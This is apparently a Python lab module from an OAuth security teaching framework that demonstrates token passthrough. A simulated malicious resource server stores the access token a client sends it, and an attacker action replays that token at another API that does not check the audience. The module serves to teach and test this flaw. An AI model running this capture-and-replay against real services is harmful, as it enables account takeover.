"""Lab "token-passthrough": a malicious resource server replays the access token a
user's client handed it at another API, which accepts it unless it checks the
token's audience (RFC 8707 §2, RFC 9068 §4, RFC 9700 §4.9.1 and §4.10.2; the MCP
spec's token passthrough and confused deputy warnings)."""

from __future__ import annotations

import json
from collections.abc import Mapping
from urllib.parse import urlencode

import jwt
import requests

from flowlab.core.runner.capture import capture_session
from flowlab.core.runner.capture import exchange_of
from flowlab.labs import client
from flowlab.labs import wire
from flowlab.labs.catalogue import Lab
from flowlab.labs.page import NOT_FOUND
from flowlab.labs.page import Answer
from flowlab.labs.page import Incoming
from flowlab.labs.resource import me_url
from flowlab.labs.store import Run


def lyrics_api(run: Run, config: Mapping) -> str:
    """The attacker's resource server: its identifier, and the one URL it serves."""
    return f"{config['LABS_ATTACKER_URL']}/labs/{run.lab}/{run.id}/as/lyrics"


def start_login(run: Run, lab: Lab, config: Mapping) -> str:
    """The client's sign-in, asking for a token meant for the lyrics API only
    (RFC 8707 §2.1: ``resource``)."""
    url = client.start_login(run, lab, config)
    return url + "&" + urlencode({"resource": lyrics_api(run, config)})


def finish_login(run: Run, lab: Lab, config: Mapping, sent: Incoming) -> None:
    """The callback: state checked, code redeemed, and the token sent where it is
    meant to go, the lyrics API (RFC 6750 §2.1)."""
    run.record("callback", "victim", "front", sent.exchange())
    if not client.state_ok(run, lab, sent.args.get("state")) or not sent.args.get(
            "code"):
        run.client["refused"] = True
        return
    response = client.redeem(run, lab, config, sent.args["code"],
                             run.client.pop("verifier", None))
    if not response.ok:
        return
    token = run.client["access_token"] = response.json()["access_token"]
    session = capture_session(requests.Session())
    answer = session.get(lyrics_api(run, config), timeout=config["HTTP_TIMEOUT"],
                         headers={"Authorization": f"Bearer {token}"},
                         allow_redirects=False)
    run.record("lyrics", "victim", "back", exchange_of(session, answer))


def serve(run: Run, lab: Lab, endpoint: str, config: Mapping,
          sent: Incoming) -> Answer:
    """The attacker's lyrics API: it answers, and keeps the token it was sent."""
    if endpoint != "lyrics":
        return NOT_FOUND
    scheme, _, token = (sent.header("Authorization") or [""])[0].partition(" ")
    if scheme.lower() == "bearer" and token:
        run.attacker["token"] = token.strip()
    body = {"track": "Northern Lights", "lyrics": "(the lyrics)"}
    return Answer(200, json.dumps(body), {"Content-Type": "application/json"})


def attacker_view(run: Run, lab: Lab) -> dict:
    """The token the lyrics API received, decoded, and a button to replay it."""
    replays = run.entries("replay")
    if replays:
        answer = replays[0].exchange.response
        return {"heading": "The attacker replayed Alice's token at the music API",
                "text": "The music API answered:",
                "shown": answer.start_line + "\n" + "\n".join(
                    f"{k}: {v}" for k, v in answer.headers
                    if k.lower() == "www-authenticate") + "\n\n" + answer.pretty_body()}
    token = run.attacker.get("token")
    if not token:
        return {"heading": "No token yet",
                "text": "The lyrics API has received no access token: sign in first."}
    claims = jwt.decode(token, options={"verify_signature": False})
    return {"heading": "An access token, received by the lyrics API",
            "text": "The client sent it with its call. Its payload says whom it is for"
                    " (aud):",
            "leaked": json.dumps({k: claims.get(k) for k in (
                "iss", "aud", "sub", "client_id", "scope")}, indent=2),
            "button": "Replay it at the music API"}


def attacker_act(run: Run, lab: Lab, config: Mapping) -> None:
    """Replay the token at the music API's ``/v1/me``, once (RFC 6750 §2.1)."""
    token = run.attacker.get("token")
    if not token or run.entries("replay"):
        return
    session = capture_session(requests.Session())
    answer = session.get(me_url(run, lab), timeout=config["HTTP_TIMEOUT"],
                         headers={"Authorization": f"Bearer {token}"},
                         allow_redirects=False)
    run.record("replay", "attacker", "back", exchange_of(session, answer))


def _handed(run: Run) -> set[str]:
    """The tokens the client sent to the lyrics API, as captured."""
    return {(e.exchange.request.header("Authorization") or "") for e in
            run.entries("lyrics")}


def succeeded(run: Run) -> bool | None:
    """On the wire: the token the client handed the lyrics API, replayed at the
    music API, read the account (True) or was refused as invalid_token, not for
    being expired (False); None before that replay."""
    for entry in run.entries("replay"):
        sent = entry.exchange.request.header("Authorization") or ""
        if sent not in _handed(run):
            continue
        if wire.status(entry) == 200:
            return True
        challenge = entry.exchange.response.header("WWW-Authenticate") or ""
        if (wire.status(entry) == 401 and 'error="invalid_token"' in challenge
                and "expired" not in challenge):
            return False
    return None
